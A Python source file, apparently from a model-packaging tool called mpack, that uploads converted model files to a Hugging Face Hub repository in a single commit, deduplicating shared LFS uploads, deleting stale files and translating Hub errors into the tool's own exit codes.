# Note [repo contents]: a push makes the revision hold exactly what it sends, plus the Hub's
# .gitattributes: files of an earlier push that this one does not send (a rank file of another
# TP size, a target no longer built) are deleted in the same commit, so the card never lists
# less than the repo holds and a loader never finds a stale file beside a manifest. The Hub's
# history keeps the old files. A sidecar itself never holds a README.md (it is not among the
# copied files, and an unlisted file fails the checks), so the card replaces nothing of it.
# With several targets the root also gets the copied model files (config.json, tokenizer
# files), identical in every target of one source: vLLM reads the model's config and tokenizer
# from the model argument, the repo, and the weights from the folder named in
# --model-loader-extra-config.


# Note [shared uploads]: the targets of one multi-target directory hold files of the same bytes:
# ``common.safetensors`` (the pass-through tensors, unchanged from the checkpoint, under a header
# that names no target: convert/plan.py) and the copied files, which also go to the repo root.
# Each target's folder keeps its own copy in the repo (a loader fetches ``org/repo/<target>`` as
# one complete sidecar: docs/HUB.md, "Loading by repo id"; the layout is not changed for this),
# but the bytes go up once. The plan marks every upload the Hub stores through LFS
# (:data:`LFS_MIN_BYTES`) whose manifest digests equal an earlier one's (``Upload.same_as``);
# :func:`push` first uploads one file of each such group alone (``HfApi.preupload_lfs_files``),
# then makes the one commit of every file: the Hub's LFS batch API answers that the other
# copies' object is already there, and huggingface_hub skips their upload
# (tests/test_push_hub.py counts the bytes a local stand-in of the Hub receives). Over Xet
# (hf_xet installed, huggingface_hub's default), the copies' chunks are found already stored
# and not sent again either; each copy is still read once locally, to be hashed. The repo's
# storage holds one object either way. Small files the Hub keeps in git (config, tokenizer
# files) go inside the commit, once per path: a few KB, not worth a second request.


def push(plan: PushPlan, *, api: Any = None, show_progress: bool = False) -> PushResult:
    """Send ``plan`` as one commit: create the repo if needed (``private`` applies only then),
    the branch if ``revision`` names a new one, upload once the bytes several files share (Note
    [shared uploads]), then ``create_commit`` with every upload and the deletions of Note [repo
    contents], with ``plan.commit_message``, as a pull request where ``plan.create_pr``.

    ``api``: an ``huggingface_hub.HfApi`` (default: a new one, which takes its token from
    ``HF_TOKEN`` or ``hf auth login`` and its endpoint from ``HF_ENDPOINT``); tests pass a
    stand-in. ``show_progress``: huggingface_hub's own progress bars for the uploads.

    Raises:
        HubAuthError: no token, or one that may not write to the repo (exit 3).
        HubError: the Hub cannot be reached (or ``HF_HUB_OFFLINE`` is set), or refused (exit 3).
        InputError: the Hub refused the request as malformed, or a file changed after it was
            checked (exit 2).
    """
    from huggingface_hub import CommitOperationAdd, CommitOperationDelete

    if api is None:
        from huggingface_hub import HfApi

        api = HfApi(library_name="mpack", library_version=__version__)
    rid, rev = plan.repo_id, plan.revision
    branch = rev if rev and rev != "main" else None
    with _hub_errors(rid, rev, api), hub_progress(show_progress):
        api.create_repo(rid, repo_type="model", private=plan.private, exist_ok=True)
        if branch:
            api.create_branch(rid, branch=branch, repo_type="model", exist_ok=True)
        present = api.list_repo_files(rid, revision=branch, repo_type="model")
        sent = {u.path_in_repo for u in plan.uploads}
        deleted = sorted(p for p in present if p not in sent and p != GITATTRIBUTES)
        adds = {
            u.path_in_repo: CommitOperationAdd(
                path_in_repo=u.path_in_repo,
                path_or_fileobj=plan.card.encode() if u.local is None else str(u.local),
            )
            for u in plan.uploads
        }
        _check_unchanged(plan)  # a file replaced since the checks is caught here
        shared = sorted({u.same_as for u in plan.uploads if u.same_as is not None})
        if shared:  # Note [shared uploads]
            api.preupload_lfs_files(
                rid,
                additions=[adds[p] for p in shared],
                repo_type="model",
                revision=branch,
                create_pr=plan.create_pr,
            )
        ops: list[Any] = list(adds.values())
        ops += [CommitOperationDelete(path_in_repo=p) for p in deleted]
        info = api.create_commit(
            rid,
            ops,
            commit_message=plan.commit_message,
            commit_description=_commit_description(plan),
            revision=branch,
            repo_type="model",
            create_pr=plan.create_pr,
        )
    return PushResult(
        plan,
        getattr(info, "oid", None),
        getattr(info, "commit_url", None),
        deleted,
        getattr(info, "pr_url", None),
    )


def push_sidecar(
    sidecar: str | os.PathLike,
    repo_id: str,
    *,
    revision: str | None = None,
    private: bool = False,
    base_model: str | None = None,
    commit_message: str | None = None,
    create_pr: bool = False,
    api: Any = None,
    show_progress: bool = False,
) -> PushResult:
    """:func:`plan_push` then :func:`push`: check ``sidecar`` (nothing is sent when it fails),
    then send it to ``repo_id`` in one commit."""
    plan = plan_push(
        sidecar,
        repo_id,
        revision=revision,
        private=private,
        base_model=base_model,
        commit_message=commit_message,
        create_pr=create_pr,
    )
    return push(plan, api=api, show_progress=show_progress)


def _check_unchanged(plan: PushPlan) -> None:
    for path, before in plan.stamps.items():
        try:
            st = os.stat(path, follow_symlinks=False)
            now = (st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns)
        except OSError:
            now = None
        if now != before:
            raise InputError(
                f"{path}: changed after it was checked (another mpack convert writing here?); "
                "nothing pushed",
                hint="run the push again once the sidecar is finished",
            )


def _commit_message(targets: list[Target]) -> str:
    """The default commit summary: the targets, and the source as the card names it (a local
    source by its directory's name only, as there)."""
    names = ", ".join(t.name for t in targets)
    m = targets[0].manifest
    src = m.get("source") or {}
    origin = (
        _source_name(m)
        if src.get("kind") == "hub"
        else f"local directory {_local_name(src.get('path')) or '?'}"
    )
    return f"mpack push: {names} from {shown(origin, 4096)}"


def _commit_description(plan: PushPlan) -> str:
    lines = [f"Pushed with mpack {__version__}. Manifest digests (sha256 of mpack.json):"]
    lines += [f"- {t.folder or '(root)'}: {t.digest}" for t in plan.targets]
    return "\n".join(lines)


@contextlib.contextmanager
def hub_progress(show: bool) -> Iterator[None]:
    """huggingface_hub's own progress bars (downloads, uploads) only when mpack shows progress
    (not --json/--quiet). Also convert's, for a Hub source."""
    from huggingface_hub.utils import (
        are_progress_bars_disabled,
        disable_progress_bars,
        enable_progress_bars,
    )

    was_disabled = are_progress_bars_disabled()
    if not show:
        disable_progress_bars()
    try:
        yield
    finally:
        if not show and not was_disabled:
            enable_progress_bars()


_LOGIN = "log in with `hf auth login`, or set HF_TOKEN to a token with write access"


@contextlib.contextmanager
def _hub_errors(repo_id: str, revision: str | None, api: Any) -> Iterator[None]:
    """huggingface_hub's errors as mpack's: auth and network exit 3, a malformed request 2."""
    from huggingface_hub import errors as hf

    endpoint = getattr(api, "endpoint", None) or "the Hub"
    where = f"{repo_id}@{revision}" if revision else repo_id
    # The transport's own errors: requests' are OSErrors; httpx's derive from its HTTPError,
    # which huggingface_hub.errors exports where it uses httpx.
    transport = (OSError, getattr(hf, "HTTPError", OSError))
    try:
        yield
    except hf.HFValidationError as e:
        raise UsageError(f"{where}: {e}") from None
    except getattr(hf, "OfflineModeIsEnabled", ()):
        raise HubError(
            f"{where}: HF_HUB_OFFLINE is set, and a push needs the network",
            hint="unset HF_HUB_OFFLINE (or use --dry-run to see what would be sent)",
        ) from None
    except hf.LocalTokenNotFoundError:
        raise HubAuthError(f"{where}: no Hugging Face token found", hint=_LOGIN) from None
    except hf.RepositoryNotFoundError:
        raise HubAuthError(
            f"{where}: the Hub says the repo does not exist or this token may not see it",
            hint=f"check the repo id; {_LOGIN} to its namespace",
        ) from None
    except hf.RevisionNotFoundError:
        raise SourceNotFoundError(f"{where}: no such branch on the Hub") from None
    except hf.HfHubHTTPError as e:
        status = getattr(getattr(e, "response", None), "status_code", None)
        said = getattr(e, "server_message", None) or str(e).splitlines()[0]
        if status in (401, 403):
            raise HubAuthError(
                f"{where}: the Hub refused the token (HTTP {status}): {said}", hint=_LOGIN
            ) from None
        if status is not None and 400 <= status < 500 and status not in (408, 429):
            raise InputError(f"{where}: the Hub refused the push (HTTP {status}): {said}") from None
        raise HubError(
            f"{where}: the Hub answered HTTP {status}: {said}", hint="try again later"
        ) from None
    except transport as e:
        raise HubError(
            f"{where}: cannot reach {endpoint} ({type(e).__name__}: {e})",
            hint="check the network, and HF_ENDPOINT if it is set",
        ) from None
